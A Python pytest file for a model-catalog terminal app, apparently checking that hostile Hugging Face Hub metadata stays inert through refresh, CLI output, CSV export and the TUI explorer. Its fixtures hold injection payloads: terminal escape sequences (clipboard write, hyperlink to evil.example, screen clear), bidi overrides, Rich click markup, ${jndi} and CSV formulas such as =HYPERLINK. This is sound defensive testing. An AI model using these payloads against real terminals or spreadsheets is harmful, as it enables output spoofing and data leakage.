"""Hostile Hub payloads go through refresh, the CLI and the explorer and stay inert (issue 6)."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from fakehub import FakeHub, make_model
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from qwen_tui.catalog.loader import load_catalog
from qwen_tui.cli import main
from qwen_tui.hub.settings import SyncSettings
from qwen_tui.paths import default_paths
from qwen_tui.query import Dataset
from qwen_tui.store import Store
from qwen_tui.sync import refresh

LIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
PIECES = ["\x1b[31m", "\x1b[2J\x1b[H", "\x1b]52;c;ZXZpbA==\x07", "\x1b]8;;https://evil.example/\x1b\\",
          "\x9b6n", "\x9d2;t\x9c", "\x07", "\x00", "\r", "\u202e", "\u2066", "[bold red]", "[/]",
          "[link=https://evil.example]x[/link]", "[@click=app.quit]", "漢", "%s%n", "${jndi}"]
hostile = st.lists(st.one_of(st.sampled_from(PIECES), st.text(min_size=1, max_size=8)), min_size=1,
                   max_size=12).map("".join)
pytestmark = pytest.mark.anyio  # the async explorer test runs on anyio's plugin, on asyncio


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


FAST = SyncSettings(max_retries=0, backoff_base=0.01, backoff_max=0.01, workers=4)


@pytest.fixture(scope="module")
def hub():
    with FakeHub(page_size=50) as h:
        yield h


def hostile_item(name: str, text: str, big: bool) -> dict:
    item = make_model(f"acme/{name}", license="other", license_name=text, pipeline_tag=text[:40],
                      library_name=text[:40], extra_tags=(text[:60],), base_model=f"acme/{text[:30]}")
    # The id stays one the Hub could have: ids it could not have are dropped (see below), and
    # this item is here to carry the hostile text into every other field.
    item["gated"] = text[:20] or False
    item["createdAt"] = text[:30]  # not a date at all
    item["downloads"] = text[:10]  # wrong type
    item["likes"] = 10**30  # absurd number
    item["cardData"]["license"] = text
    item["cardData"]["tags"] = [text] * 3
    if big:
        item["cardData"]["license_name"] = text + "L" * 1_000_000  # a megabyte string
    return item


def outputs(fixture_catalog_dir: Path, capsys: pytest.CaptureFixture[str]) -> list[str]:
    outs = []
    for argv in (["list", "--status", "discovered"], ["list", "--status", "discovered", "--csv"],
                 ["list", "--vendor", "acme"], ["vendors"], ["diff"]):
        assert main([*argv, "--catalog", str(fixture_catalog_dir)]) == 0, argv
        out, err = capsys.readouterr()
        outs.append(out + err)
    assert main(["list", "--status", "discovered", "--json", "--catalog", str(fixture_catalog_dir)]) == 0
    out, _ = capsys.readouterr()
    json.loads(out)
    outs.append(out)  # JSON escapes controls (\\u001b), so the raw text must hold none either
    return outs


@given(text=hostile, big=st.booleans())
@settings(max_examples=20, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
def test_hostile_payloads_through_refresh_and_cli(hub: FakeHub, fixture_catalog_dir: Path,
                                                   capsys: pytest.CaptureFixture[str], text: str,
                                                   big: bool) -> None:
    hub.models.clear()
    hub.put(make_model("acme/Acme-1-7B"))
    hub.put(hostile_item("evil", text, big))
    catalog = load_catalog([fixture_catalog_dir], bundled=False)
    store = Store.open(default_paths().cache_db)
    report = refresh(catalog, store, vendors=["acme"], endpoint=hub.url, settings=FAST)
    store.close()
    assert report.snapshot is not None
    for out in outputs(fixture_catalog_dir, capsys):
        assert LIVE.search(out) is None, repr(out[:200])
        assert len(out) < 200_000


def test_invalid_utf8_and_malformed_json_fail_one_vendor_only(hub: FakeHub, fixture_catalog_dir: Path) -> None:
    hub.models.clear()
    hub.put(make_model("acme/Acme-1-7B"))
    hub.put(make_model("globex/globex-small"))
    hub.fault("list:acme", body=b'[{"_id": "1", "id": "acme/\xff\xfe\x1b[31m"}]')
    try:
        catalog = load_catalog([fixture_catalog_dir], bundled=False)
        store = Store.open(default_paths().cache_db)
        report = refresh(catalog, store, endpoint=hub.url, settings=FAST)
        store.close()
    finally:
        hub.clear_faults()
    assert "acme" in report.failed and "globex" in report.ok
    assert "\n" not in report.failed["acme"] and "\x1b" not in report.failed["acme"]


async def test_explorer_shows_hostile_text_as_text(hub: FakeHub, fixture_catalog_dir: Path) -> None:
    from qwen_tui.tui.app import QwenTuiApp

    hub.models.clear()
    # No space in the markup: the detail wraps at spaces, and the id no longer carries the text.
    hub.put(hostile_item("evil", "[red]X[/]\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202e", big=True))
    catalog = load_catalog([fixture_catalog_dir], bundled=False)
    store = Store.open(default_paths().cache_db)
    refresh(catalog, store, vendors=["acme"], endpoint=hub.url, settings=FAST)
    store.close()
    paths = default_paths()
    ro = Store.open_readonly(paths.cache_db)
    app = QwenTuiApp(Dataset(catalog, ro), paths, offline=True)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("2", "enter")  # Acme AI (after All vendors), open its timeline
        await pilot.press("5")  # discovered only
        await pilot.pause()
        await pilot.press("enter")  # its detail
        await pilot.pause()
        svg = app.export_screenshot()
    assert "\x1b" not in svg and "\u202e" not in svg and "\x07" not in svg
    assert "[red]X[/]" in svg.replace("&#160;", " ")  # the brackets are shown, not applied


# -- ids the Hub could not have, formulas, invisible characters, absurd numbers (issue 11 §3) ----

def test_ids_the_hub_could_not_have_are_dropped_and_counted(hub: FakeHub, fixture_catalog_dir: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    hub.models.clear()
    hub.put(make_model("acme/Acme-1-7B"))
    for bad in ('acme/=HYPERLINK("https://evil.example/?x="&A1)', "acme/Acme-1-7B\u200b", "acme/a--b",
                "acme/x/y", "acme/" + "n" * 97):
        item = make_model("acme/placeholder")
        item["id"] = item["modelId"] = bad
        hub.put(item)
    hub.put(make_model("acme/Still-Fine_1.5"))
    cat = ["--catalog", str(fixture_catalog_dir)]
    assert main(["refresh", "--vendor", "acme", "--endpoint", hub.url, *cat]) == 0
    out, _ = capsys.readouterr()
    assert "dropped: 5 listed repos with an id the Hub could not have" in out
    assert main(["list", "--status", "discovered", "--csv", *cat]) == 0
    csv_out, _ = capsys.readouterr()
    assert main(["list", "--status", "discovered", "--json", *cat]) == 0
    # Discovered repos are listed as groups (living catalog): the repos are each group's hf_repos.
    ids = {r for e in json.loads(capsys.readouterr()[0]) for r in e["hf_repos"]}
    assert ids == {"acme/Still-Fine_1.5"}
    assert "HYPERLINK" not in csv_out and "\u200b" not in csv_out


def test_csv_cells_that_start_a_formula_are_neutralised(hub: FakeHub, fixture_catalog_dir: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    import csv
    import io

    hub.models.clear()
    for i, formula in enumerate(['=HYPERLINK("https://evil.example")', "+1+1", "-2+3", "@SUM(A1)"]):
        hub.add(f"acme/Formula-{i}", license="other", license_name=formula)
    cat = ["--catalog", str(fixture_catalog_dir)]
    assert main(["refresh", "--vendor", "acme", "--endpoint", hub.url, *cat]) == 0
    capsys.readouterr()
    assert main(["list", "--status", "discovered", "--csv", *cat]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr()[0])))
    cells = [c for row in rows[1:] for c in row]
    assert len(rows) == 5
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert "'=HYPERLINK(\"https://evil.example\")" in cells and "'@SUM(A1)" in cells


@pytest.mark.parametrize("char", ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\ufeff"])
def test_the_cleaner_drops_invisible_characters(char: str) -> None:
    from qwen_tui.text import UNSAFE, clean

    assert clean(f"01-ai/Yi-34B{char}") == "01-ai/Yi-34B"
    assert UNSAFE.search(char)


def test_absurd_numbers_and_unknown_gated_values_spoil_nothing(hub: FakeHub, fixture_catalog_dir: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    hub.models.clear()
    hub.add("acme/Acme-1-7B", children=2**63)
    hub.add("acme/Acme-1-7B-Chat", children=-3)
    hub.add("acme/Acme-2-1B", gated="yes")
    hub.add("acme/Acme-2-70B", gated=True)
    hub.add("acme/Acme-3-8B", gated="manual", children=4)
    hub.update("acme/Acme-2-1B", downloads=2**80, likes=-1)
    cat = ["--catalog", str(fixture_catalog_dir)]
    assert main(["refresh", "--vendor", "acme", "--endpoint", hub.url, *cat]) == 0
    capsys.readouterr()
    store = Store.open_readonly(default_paths().cache_db)
    assert store is not None
    repos = {r.repo_id: r for r in store.repos(store.latest().id)}
    store.close()
    assert repos["acme/Acme-1-7B"].children is None and repos["acme/Acme-1-7B-Chat"].children is None
    assert repos["acme/Acme-3-8B"].children == 4 and repos["acme/Acme-3-8B"].gated == "manual"
    assert repos["acme/Acme-2-1B"].gated is None and repos["acme/Acme-2-70B"].gated is None
    assert repos["acme/Acme-2-1B"].downloads is None and repos["acme/Acme-2-1B"].likes is None
    assert main(["list", "--vendor", "acme", "--json", *cat]) == 0
    out = capsys.readouterr()[0]
    assert '"derivatives": -3' not in out and str(2**63) not in out
